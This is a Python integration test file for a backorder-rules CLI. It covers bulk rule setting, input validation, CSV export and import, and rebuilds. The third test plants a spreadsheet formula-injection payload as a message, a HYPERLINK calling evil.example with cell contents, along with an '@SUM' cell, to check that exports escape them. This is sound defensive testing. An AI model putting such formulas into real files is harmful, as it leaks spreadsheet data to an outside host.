"""Through the real CLI over the demo store: backorder rules set in bulk, shown, refused whole on
bad input, moved through the stock file with hostile cells, and kept by a rebuild."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from datetime import timedelta
from pathlib import Path
from typing import Any

from backorder_desktop.demo.server import DemoStore
from backorder_desktop.domain.backorder_rules import shopper_date
from backorder_desktop.domain.csv_cells import csv_text
from backorder_desktop.domain.csv_cells import unescape_cell
from backorder_desktop.services.profile import Profile
from tests.integration.cli_runner import run_cli
from tests.integration.support import synced_store
from tests.integration.support import tracked_by_product

MakeStore = Callable[..., DemoStore]
MakeContext = Callable[..., Profile]
SOON = date.today() + timedelta(days=30)


def _by_variants(store: DemoStore) -> dict[str, Any]:
    return next(
        p
        for p in (store.catalog.get_product(pid) for pid in store.catalog.product_ids())
        if p["inventory_tracking"] == "variant" and len(p["variants"]) >= 3
    )


def _assigned(
    home: str, make_demo_store: MakeStore, make_context: MakeContext
) -> tuple[dict[str, str], dict, dict]:  # type: ignore[type-arg]
    store, env = synced_store(make_demo_store, make_context)
    variants, whole = _by_variants(store), tracked_by_product(store)
    for product in (variants, whole):
        assert run_cli(home, "assign", str(product["id"]), env=env).code == 0
    return env, variants, whole


def _show(home: str, env: dict[str, str], *refs: str) -> dict[str, dict[str, Any]]:
    shown = run_cli(home, "backorder", "show", *refs, "--json", env=env)
    assert shown.code == 0, shown.stderr
    return {item["sku"]: item for item in shown.json()}


def test_a_product_sets_each_variant_and_show_says_where_each_stands(
    home: str, make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    env, variants, whole = _assigned(home, make_demo_store, make_context)
    skus = [v["sku"] for v in variants["variants"]]
    done = run_cli(
        home, "backorder", "set", str(variants["id"]), whole["sku"], "--limit", "10", "--incoming", "40",
        "--date", SOON.isoformat(), "--message", "{incoming} arrive {date}", env=env,
    )  # fmt: skip
    assert done.code == 0, done.stderr
    assert done.stdout.startswith(f"{len(skus) + 1} items changed")
    first = skus[0]
    assert run_cli(home, "stock", "set", first, "-9", env=env).code == 0
    assert run_cli(home, "stock", "set", skus[1], "-10", env=env).code == 0

    shown = _show(home, env)
    assert set(shown) == {*skus, whole["sku"]}
    assert shown[first]["state"] == "near limit" and shown[first]["available_to_sell"] == 1
    assert shown[skus[1]]["state"] == "at limit" and shown[skus[1]]["available_to_sell"] == 0
    assert shown[skus[2]]["limit"] == 10 and shown[skus[2]]["expected"] == SOON.isoformat()
    assert shown[whole["sku"]]["message"] == f"40 arrive {shopper_date(SOON)}"

    # One variant's SKU changes that variant only; the rest keep theirs.
    assert run_cli(home, "backorder", "set", first, "--clear-limit", "--clear-message", env=env).code == 0
    again = _show(home, env, str(variants["id"]))
    assert again[first]["limit"] is None and again[first]["state"] == "ok"
    assert again[first]["message"] == f"Ships by {shopper_date(SOON)}"  # the store-wide default
    assert again[skus[1]]["limit"] == 10 and set(again) == set(skus)


def test_bad_input_is_refused_with_what_to_do_and_nothing_half_applied(
    home: str, make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    env, variants, whole = _assigned(home, make_demo_store, make_context)
    assert run_cli(home, "backorder", "set", whole["sku"], "--limit", "3", env=env).code == 0
    before = _show(home, env)
    cases = [
        (["--limit", "-1"], "give 0 to"),
        (["--limit", "many"], "whole number"),
        (["--date", (date.today() - timedelta(days=1)).isoformat()], "is in the past"),
        (["--date", "12/01/2027"], "YYYY-MM-DD"),
        (["--message", "x" * 250 + " {date}"], "the store keeps at most 255"),
        (["--message", "Back {when}"], "only {date} and {incoming}"),
        (["--limit", "2", "--clear-limit"], "not both"),
        ([], "Nothing to change"),
    ]
    for options, says in cases:
        refused = run_cli(home, "backorder", "set", str(variants["id"]), whole["sku"], *options, env=env)
        assert refused.code == 1, (options, refused.stdout)
        assert refused.stderr.startswith("Backorder rule not changed:") and says in refused.stderr, (
            refused.stderr
        )

    # Unknown SKUs and a product not in BackOrder: counted, named, and the known ones untouched.
    products = run_cli(home, "products", "--json", env=env).json()
    outside = next(p for p in products if p["id"] not in (variants["id"], whole["id"]) and p["sku"])
    refused = run_cli(
        home,
        "backorder",
        "set",
        whole["sku"],
        "NO-SUCH-1",
        "NO-SUCH-2",
        outside["sku"],
        "--limit",
        "7",
        env=env,
    )
    assert refused.code == 1
    assert "2 SKUs no product has (NO-SUCH-1, NO-SUCH-2)" in refused.stderr
    assert f"1 product not in BackOrder ({outside['sku']})" in refused.stderr
    assert "backorder-desktop assign SKU" in refused.stderr
    assert _show(home, env) == before


def test_rules_round_trip_through_the_stock_file_with_hostile_cells_and_survive_a_rebuild(
    home: str, make_demo_store: MakeStore, make_context: MakeContext, tmp_path: Path
) -> None:
    env, variants, whole = _assigned(home, make_demo_store, make_context)
    hostile = '=HYPERLINK("http://evil.example/"&A1,"x") {date}'
    set_ = run_cli(
        home, "backorder", "set", whole["sku"], "--limit", "4", "--date", SOON.isoformat(),
        "--message", hostile, env=env,
    )  # fmt: skip
    assert set_.code == 0, set_.stderr
    exported = run_cli(home, "export", env=env)
    assert exported.code == 0
    header, *rows = exported.stdout.splitlines()
    assert header.endswith(",limit,incoming,expected,message")
    row = next(r for r in rows if r.startswith(whole["sku"] + ","))
    assert ",\"'=HYPERLINK(" in row  # quoted so no spreadsheet runs it

    file = tmp_path / "stock.csv"
    file.write_text(exported.stdout, newline="")
    same = run_cli(home, "import", str(file), "--apply", env=env)
    assert same.code == 0, same.stderr
    assert _show(home, env, whole["sku"])[whole["sku"]]["message_template"] == hostile

    variant_sku = variants["variants"][0]["sku"]
    table = [[unescape_cell(c) for c in row] for row in csv.reader(io.StringIO(exported.stdout, newline=""))]
    for cells in table[1:]:
        if cells[0] == whole["sku"]:
            cells[-4:] = ["CLEAR", "12", "", "@SUM(1) {incoming} due"]  # blank date: kept
        elif cells[0] == variant_sku:
            cells[-4:] = ["-2", "", "", ""]  # refused: this row's rules stay as they were
    file.write_text(csv_text(table), newline="")  # escaped again: '@SUM… in the file
    assert "'@SUM(1)" in file.read_text()
    applied = run_cli(home, "import", str(file), "--apply", env=env)
    assert applied.code == 0, applied.stderr
    shown = _show(home, env)
    assert shown[whole["sku"]]["limit"] is None and shown[whole["sku"]]["expected"] == SOON.isoformat()
    assert shown[whole["sku"]]["message"] == "@SUM(1) 12 due"
    assert shown[variant_sku]["limit"] is None

    rebuilt = run_cli(home, "rebuild", env=env)
    assert rebuilt.code == 0, rebuilt.stderr
    assert _show(home, env) == shown


def test_a_backorder_product_whose_stock_the_store_does_not_track_is_named_as_such(
    home: str, make_demo_store: MakeStore, make_context: MakeContext
) -> None:
    store, env = synced_store(make_demo_store, make_context)
    untracked = next(
        p
        for p in (store.catalog.get_product(pid) for pid in store.catalog.product_ids())
        if p["inventory_tracking"] == "none" and p["sku"]
    )
    assert run_cli(home, "assign", str(untracked["id"]), env=env).code == 0

    refused = run_cli(home, "backorder", "set", untracked["sku"], "--limit", "3", env=env)

    assert refused.code == 1
    assert "whose stock BigCommerce does not track" in refused.stderr, refused.stderr
    assert "not in BackOrder" not in refused.stderr  # it is in BackOrder: the old words misled
    assert "turn inventory tracking on" in refused.stderr
